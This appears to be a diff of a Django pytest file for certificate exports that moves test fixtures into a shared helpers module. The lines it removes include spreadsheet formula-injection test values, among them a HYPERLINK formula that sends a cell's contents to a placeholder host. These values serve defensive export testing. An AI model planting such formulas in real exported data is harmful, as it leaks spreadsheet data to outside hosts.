@@ -2,59 +2,18 @@
 
 from __future__ import annotations
 
-import datetime as dt
 import warnings
-from dataclasses import dataclass, field
 
 import pytest
 from django.utils import timezone
+
+from tests.certification.exports.helpers import INJECTED_COHORT, INJECTED_NAME, World, _certificate  # noqa: F401
 
 with warnings.catch_warnings():
     # the workbench URLs (in the demo's URLconf) import webob, which imports the deprecated cgi
     # module on Python 3.11; pytest.ini turns that into an error when a view test resolves URLs
     warnings.simplefilter("ignore", DeprecationWarning)
-    import webob  # noqa: F401  pylint: disable=unused-import
-
-INJECTED_NAME = '=HYPERLINK("http://x.example/?"&A1)'
-INJECTED_COHORT = "@SUM(1+1) cohort"
-
-
-@dataclass
-class World:
-    school_a: object
-    school_b: object
-    coordinator_a: object
-    coordinator_b: object
-    staff: object
-    cohort_a: object
-    cohort_b: object
-    certificates: dict = field(default_factory=dict)  # username -> Certificate row
-    enrollments: dict = field(default_factory=dict)  # username -> enrollment id
-
-    def number(self, username: str) -> str:
-        return self.certificates[username].number
-
-
-def _certificate(user, enrollment_id, *, number, hours=12.5, status="active"):
-    from xblocks.certification import chain, models  # pylint: disable=import-outside-toplevel
-
-    enrollment = models.Enrollment.objects.get(pk=enrollment_id)
-    cert = models.Certificate.objects.create(
-        number=number,
-        user=user,
-        track_version=enrollment.track_version,
-        enrollment=enrollment,
-        cohort=enrollment.cohort,
-        status=status,
-        issued_at=timezone.now(),
-        valid_from=dt.date(2026, 6, 30),
-        valid_until=dt.date(2028, 6, 30),
-        hours_total=hours,
-        hours_by_category={"ethics": 3.0},
-        hours_by_source={"school": hours},
-    )
-    chain.append(cert, kind="issued", status="active", reason="Every requirement met", actor="system")
-    return cert
+    import webob  # noqa: F401
 
 
 @pytest.fixture
